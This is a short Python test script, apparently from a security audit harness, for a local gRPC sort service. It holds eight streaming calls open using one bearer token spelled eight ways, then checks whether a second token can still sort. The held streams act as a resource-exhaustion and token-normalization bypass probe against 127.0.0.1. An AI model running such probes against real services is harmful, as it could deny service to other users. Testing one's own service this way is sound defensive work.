# Hold SortStream calls (first message sent, no half-close) with token A spelled 8 ways; then token B sorts.
import sys, time, socket, struct
from common import *
name = sys.argv[1]; P = ports(name); p = pid(name)
spell = ["Bearer tokA", "bearer tokA", "BEARER tokA", "Bearer  tokA", "Bearer tokA ", "bEaReR tokA", "Bearer\ttokA", " Bearer tokA"]
msg = bytes([0x0a, 0x02, 0x08, 0x01]) + bytes([0x12, 0x08]) + struct.pack("<ii", 5, 3)   # options{dtype=INT32}, keys
grpcmsg = b"\x00" + struct.pack(">I", len(msg)) + msg
socks = []
for i, a in enumerate(spell):
    s = socket.socket(); s.connect(("127.0.0.1", P["grpc_port"]))
    s.sendall(PREFACE + SETTINGS + frame(4, 1, 0) + frame(1, 4, 1, grpc_headers("/gpusort.v1.SortService/SortStream", a)) + frame(0, 0, 1, grpcmsg))
    socks.append((a, s))
time.sleep(1.5)
for a, s in socks:
    fr = readframes(s, 0.3)
    ended = [f for f in fr if len(f) == 4 and f[2] == 1 and (f[0] == 3 or (f[0] == 1 and f[1] & 1))]
    hdrs = [f for f in fr if len(f) == 4 and f[0] == 1 and f[2] == 1]
    print("%-16r" % a, "ENDED (refused/failed) " + repr([h[3][:80] for h in ended]) if ended else ("open, headers %d" % len(hdrs)))
import subprocess, os
env = dict(os.environ, GPUSORT_TOKEN="tokB")
r = subprocess.run(["/tmp/attack/gpusort", "sort", "-s", f"127.0.0.1:{P['grpc_port']}", "-i", "/tmp/atk2/in.txt", "-o", "/tmp/atk2/out.txt", "-t", "i32", "--timeout", "5"], env=env, capture_output=True, text=True)
print("token B sort rc", r.returncode, (r.stdout + r.stderr)[:200])
env = dict(os.environ, GPUSORT_TOKEN="tokA")
r = subprocess.run(["/tmp/attack/gpusort", "sort", "-s", f"127.0.0.1:{P['grpc_port']}", "-i", "/tmp/atk2/in.txt", "-o", "/tmp/atk2/out.txt", "-t", "i32", "--timeout", "5"], env=env, capture_output=True, text=True)
print("token A sort rc", r.returncode, (r.stdout + r.stderr)[:200])
